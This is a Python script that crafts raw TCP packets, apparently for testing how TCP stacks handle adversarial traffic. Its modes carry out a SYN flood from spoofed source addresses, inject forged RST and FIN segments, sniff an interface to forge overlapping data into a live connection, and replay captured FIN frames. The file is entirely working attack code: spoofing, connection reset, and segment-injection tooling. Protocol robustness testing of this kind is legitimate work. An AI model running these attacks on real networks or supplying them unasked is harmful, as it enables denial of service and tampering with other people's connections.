#!/usr/bin/env python3
"""Hand-crafted TCP segments from a raw socket, for adversarial scenarios.
usage: inject.py synflood DST PORT COUNT SRC_PREFIX   - SYNs from COUNT spoofed sources SRC_PREFIX.N
       inject.py rst SRC SPORT DST DPORT SEQ          - one RST with the given sequence number
       inject.py fin SRC SPORT DST DPORT SEQ ACK      - a FIN (ACK 0: no ACK flag) where no connection exists yet
       inject.py overlap IFACE SRC DST DPORT BACK LEN - waits on IFACE for the first data segment SRC sends to
                                                        DST:DPORT, then forges LEN bytes of other data from SRC,
                                                        starting BACK bytes before that segment's end
       inject.py replay IFACE SRC DELAY               - waits on IFACE for the first FIN that SRC (IPv4 or IPv6)
                                                        sends, and DELAY seconds later sends that frame again:
                                                        an old duplicate, late from the network
"""
import random, socket, struct, sys, time

def checksum(data):
    if len(data) % 2:
        data += b'\0'
    s = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xffff)
    s += s >> 16
    return ~s & 0xffff

def segment(src, sport, dst, dport, seq, flags, ack=0, payload=b''):
    tcp = struct.pack('!HHIIBBHHH', sport, dport, seq, ack, 5 << 4, flags, 64240, 0, 0) + payload
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack('!BBH', 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack('!H', checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(tcp), random.randrange(65536), 0, 64, 6, 0, socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack('!H', checksum(ip)) + ip[12:]
    return ip + tcp

FIN, SYN, RST, PSH, ACK = 0x01, 0x02, 0x04, 0x08, 0x10

def first_data_segment(iface, src, dst, dport):
    """(sport, seq, ack, payload length) of the first data segment src sends to dst:dport, seen on iface."""
    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))  # ETH_P_ALL: outgoing frames too
    sniff.bind((iface, 0))
    while True:
        frame = sniff.recv(65535)
        if frame[12:14] != b'\x08\x00':
            continue
        ip = frame[14:]
        if ip[9] != 6 or ip[12:16] != socket.inet_aton(src) or ip[16:20] != socket.inet_aton(dst):
            continue
        ihl = (ip[0] & 15) * 4
        total = struct.unpack('!H', ip[2:4])[0]
        tcp = ip[ihl:total]
        sport, port, seq, ack, off = struct.unpack('!HHIIB', tcp[:13])
        length = total - ihl - (off >> 4) * 4
        if port == dport and length > 0:
            return sport, seq, ack, length

def first_fin(sniff, src):
    """The first Ethernet frame seen with a TCP FIN from src, IPv4 or IPv6."""
    family = socket.AF_INET6 if ':' in src else socket.AF_INET
    address = socket.inet_pton(family, src)
    while True:
        frame = sniff.recv(65535)
        if family == socket.AF_INET and frame[12:14] == b'\x08\x00' and frame[23] == 6 and frame[26:30] == address:
            tcp = frame[14 + (frame[14] & 15) * 4:]
        elif family == socket.AF_INET6 and frame[12:14] == b'\x86\xdd' and frame[20] == 6 and frame[22:38] == address:
            tcp = frame[54:]
        else:
            continue
        if tcp[13] & FIN:
            return frame


def with_tcp_checksum(frame):
    """The frame with its TCP checksum computed: a frame seen leaving a host with checksum
    offload carries only the pseudo-header's sum, which its receiver would reject."""
    if frame[12:14] == b'\x08\x00':
        ihl = (frame[14] & 15) * 4
        start, end = 14 + ihl, 14 + struct.unpack('!H', frame[16:18])[0]
        pseudo = frame[26:34] + struct.pack('!BBH', 0, 6, end - start)
    else:
        start, end = 54, 54 + struct.unpack('!H', frame[18:20])[0]
        pseudo = frame[22:54] + struct.pack('!IxxxB', end - start, 6)
    tcp = frame[start:16 + start] + b'\0\0' + frame[start + 18:end]
    return frame[:start + 16] + struct.pack('!H', checksum(pseudo + tcp)) + frame[start + 18:]

raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
random.seed(7)
kind = sys.argv[1]
if kind == 'synflood':
    dst, port, count, prefix = sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), sys.argv[5]
    for i in range(count):
        src = '%s.%d' % (prefix, 100 + i)
        raw.sendto(segment(src, random.randrange(32768, 61000), dst, port, random.randrange(1 << 32), SYN), (dst, 0))
elif kind == 'rst':
    src, sport, dst, dport, seq = sys.argv[2], int(sys.argv[3]), sys.argv[4], int(sys.argv[5]), int(sys.argv[6])
    raw.sendto(segment(src, sport, dst, dport, seq, RST), (dst, 0))
elif kind == 'fin':
    src, sport, dst, dport, seq, ack = sys.argv[2], int(sys.argv[3]), sys.argv[4], int(sys.argv[5]), int(sys.argv[6]), int(sys.argv[7])
    raw.sendto(segment(src, sport, dst, dport, seq, FIN | (ACK if ack else 0), ack), (dst, 0))
elif kind == 'overlap':
    iface, src, dst, dport, back, length = sys.argv[2], sys.argv[3], sys.argv[4], int(sys.argv[5]), int(sys.argv[6]), int(sys.argv[7])
    sport, seq, ack, seen = first_data_segment(iface, src, dst, dport)
    start = (seq + seen - back) % (1 << 32)
    raw.sendto(segment(src, sport, dst, dport, start, PSH | ACK, ack, b'X' * length), (dst, 0))
    print('forged %d bytes at seq %d over a %d-byte segment at seq %d' % (length, start, seen, seq), flush=True)
elif kind == 'replay':
    iface, src, delay = sys.argv[2], sys.argv[3], float(sys.argv[4])
    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    sniff.bind((iface, 0))
    print('waiting for a FIN from %s' % src, flush=True)
    frame = first_fin(sniff, src)
    time.sleep(delay)
    sniff.send(with_tcp_checksum(frame))
    print('sent again a %d-byte FIN frame from %s' % (len(frame), src), flush=True)
